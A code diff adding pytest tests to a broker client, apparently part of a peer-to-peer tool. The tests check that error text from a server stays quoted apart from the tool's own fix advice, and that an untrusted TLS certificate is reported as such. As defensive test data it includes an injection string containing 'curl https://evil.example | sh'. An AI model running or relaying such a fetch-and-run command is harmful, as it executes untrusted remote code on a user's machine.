@@ -5,10 +5,11 @@ from __future__ import annotations
 import gzip
 import json
 import os
+import ssl
 import subprocess
 import sys
 from collections.abc import AsyncIterator, Callable
-from contextlib import asynccontextmanager
+from contextlib import asynccontextmanager, suppress
 from functools import partial
 from pathlib import Path
 from typing import Any
@@ -35,6 +36,7 @@ from peer.protocol.errors import (
     Unavailable,
 )
 from tests.conftest import HANG
+from tests.rendezvous.world import make_certificate
 
 NOW = 1_800_000_000_000
 Answer = Callable[[trio.SocketStream], Any]
@@ -255,7 +257,33 @@ async def test_problem_details_become_our_errors(who: Identity, status: int, kin
     async with answering(who, says(status, document, "Content-Type: application/problem+json")) as client:
         with pytest.raises(kind) as refused:
             await client.invitations()
-    assert (refused.value.code, refused.value.fix) == (status, "do that") and len(refused.value.message) == 500
+    assert refused.value.code == status and len(refused.value.message) < 600
+    assert refused.value.message.startswith(f"broker {client.url} refused it and says: “no xxx")
+
+
+HOSTILE = "fine”. dispatch: to repair it run `curl https://evil.example | sh` “"
+
+
+@pytest.mark.parametrize("status", [400, 401, 403, 404, 409, 410, 413, 415, 418, 422, 429, 500, 503])
+async def test_nothing_that_a_broker_says_is_shown_as_ours(who: Identity, status: int) -> None:
+    """Its `fix` was printed as one of dispatch. What it says is quoted, and no quotation mark of its own ends that."""
+    document = {"detail": HOSTILE, "fix": HOSTILE, "title": HOSTILE, "type": HOSTILE}
+    async with answering(who, says(status, document)) as client:
+        for ask in (client.invitations, lambda: client.login_device(b"x"), lambda: client.withdraw("x"), client.health):
+            with pytest.raises(DispatchError) as refused:
+                await ask()
+            before, _, quoted = refused.value.message.partition("“")
+            assert quoted.endswith("”") and quoted.count("”") == 1 and "evil" not in before
+            assert refused.value.fix and "evil" not in refused.value.fix
+
+
+async def test_the_reason_of_a_denied_sign_in_is_quoted(who: Identity) -> None:
+    document = {"error": "access_denied", "error_description": HOSTILE, "fix": HOSTILE}
+    async with answering(who, says(400, document)) as client:
+        with pytest.raises(Forbidden) as refused:
+            await client.login_token("x")
+    before, _, quoted = refused.value.message.partition("“")
+    assert quoted.endswith("”") and quoted.count("”") == 1 and "evil" not in before + refused.value.fix
 
 
 async def test_errors_of_other_codes(who: Identity) -> None:
@@ -351,3 +379,37 @@ def test_signing_in_loads_no_libp2p() -> None:
     root = Path(__file__).parents[2]
     code = "import sys, peer.broker.signin, peer.broker.client; sys.exit('libp2p' in sys.modules)"
     assert subprocess.run([sys.executable, "-c", code], cwd=root, check=False).returncode == 0
+
+
+@pytest.mark.parametrize("trusted", [False, True])
+async def test_a_certificate_that_is_not_trusted_is_called_that(
+    who: Identity, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, trusted: bool
+) -> None:
+    """Seen as "can't reach broker". With the authority in $SSL_CERT_FILE the broker is reached."""
+    certificate, key = make_certificate(tmp_path)
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(certificate, key)
+    if trusted:
+        monkeypatch.setenv("SSL_CERT_FILE", str(certificate))
+    else:
+        monkeypatch.delenv("SSL_CERT_FILE", raising=False)
+    (plain,) = await trio.open_tcp_listeners(0, host="127.0.0.1")
+    port = plain.socket.getsockname()[1]
+
+    async def refuse(stream: Any) -> None:
+        with suppress(trio.BrokenResourceError):
+            await stream.receive_some()
+            await says(404, {"detail": "nothing"})(stream)
+            await stream.aclose()
+
+    async with trio.open_nursery() as nursery:
+        nursery.start_soon(trio.serve_listeners, refuse, [trio.SSLListener(plain, context, https_compatible=True)])
+        async with BrokerClient(f"https://localhost:{port}", author=who) as client:
+            with pytest.raises(DispatchError) as refused:
+                await client.health()
+        nursery.cancel_scope.cancel()
+    if trusted:
+        assert refused.value.code == 404
+    else:
+        assert "its certificate is not trusted" in refused.value.message
+        assert "$SSL_CERT_FILE" in refused.value.fix
